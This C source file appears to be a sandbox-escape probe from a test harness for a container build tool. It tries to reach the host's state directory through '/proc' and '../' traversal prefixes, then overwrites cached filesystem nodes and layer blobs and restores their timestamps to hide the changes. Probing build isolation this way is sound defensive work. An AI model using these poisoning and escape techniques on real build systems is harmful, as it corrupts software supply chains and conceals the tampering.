// Poisoning ocibuild's state directory from the step, through the host paths the mapped prefixes
// reach: the rootfs cache's hardlink farm (nodes/*), the blob store (a cached layer overwritten in
// place, same size) and the layer cache's step records. The harness verifies every blob against
// its digest and compares the trusted build with a fresh one.
#include "cache.h"

#define UP16 "/../../../../../../../../../../../../../../../.."

static int hits;

static void tamper_file(const char* path, off_t at, const char* bytes) {
  int fd = open(path, O_RDWR);
  ATT(fd, "open(%s, O_RDWR)", path);
  if (fd < 0) return;
  struct stat st;
  fstat(fd, &st);
  if (st.st_size > at + (off_t)strlen(bytes) &&
      ATT(pwrite(fd, bytes, strlen(bytes), at), "pwrite(%s)", path) > 0) {
    ++hits;
    p_escape("wrote into ocibuild's state: %s", path);
  }
  struct timespec ts[2] = {st.st_atim, st.st_mtim};
  futimens(fd, ts);
  close(fd);
}

static void walk(const char* state) {
  char* cache = p_strf("%s/rootfs-cache", state);
  DIR* d = opendir(cache);
  ATT(d ? 0 : -1, "opendir(%s)", cache);
  if (d) {
    struct dirent* e;
    while ((e = readdir(d))) {
      if (e->d_name[0] == '.' || !strcmp(e->d_name, "lock")) continue;
      char* nodes = p_strf("%s/%s/nodes", cache, e->d_name);
      DIR* n = opendir(nodes);
      if (!n) continue;
      struct dirent* f;
      while ((f = readdir(n))) {
        if (f->d_name[0] == '.') continue;
        char* p = p_strf("%s/%s", nodes, f->d_name);
        char head[16] = "";
        read_path(p, head, sizeof head);
        if (!strncmp(head, "trusted data", 12)) tamper_file(p, 0, "NODEPWND");
      }
      closedir(n);
    }
    closedir(d);
  }
  char* blobs = p_strf("%s/blobs/sha256", state);
  d = opendir(blobs);
  ATT(d ? 0 : -1, "opendir(%s)", blobs);
  if (d) {
    struct dirent* e;
    while ((e = readdir(d))) {
      if (e->d_name[0] == '.') continue;
      char* p = p_strf("%s/%s", blobs, e->d_name);
      struct stat st;
      if (stat(p, &st) == 0 && st.st_size > 4096) tamper_file(p, st.st_size / 2, "BLOBPWND");
    }
    closedir(d);
  }
  char* steps = p_strf("%s/cache/steps", state);
  d = opendir(steps);
  ATT(d ? 0 : -1, "opendir(%s)", steps);
  if (d) {
    struct dirent* e;
    while ((e = readdir(d))) {
      if (e->d_name[0] == '.') continue;
      char* p = p_strf("%s/%s", steps, e->d_name);
      int fd = open(p, O_WRONLY | O_APPEND);
      if (ATT(fd, "open(%s, O_APPEND)", p) >= 0) {
        ++hits;
        close(fd);
      }
    }
    closedir(d);
  }
}

int main(void) {
  p_start();
  const char* state = hint("STATE");
  if (!state) p_end();
  const char* pre[] = {"/proc/self/root", "/proc/..", "/proc/self/cwd" UP16, "/dev/..", ""};
  for (size_t i = 0; i < sizeof pre / sizeof *pre; ++i) walk(p_strf("%s%s", pre[i], state));
  p_line("ATTEMPT", "state directory writes: %d", hits);
  p_end();
}
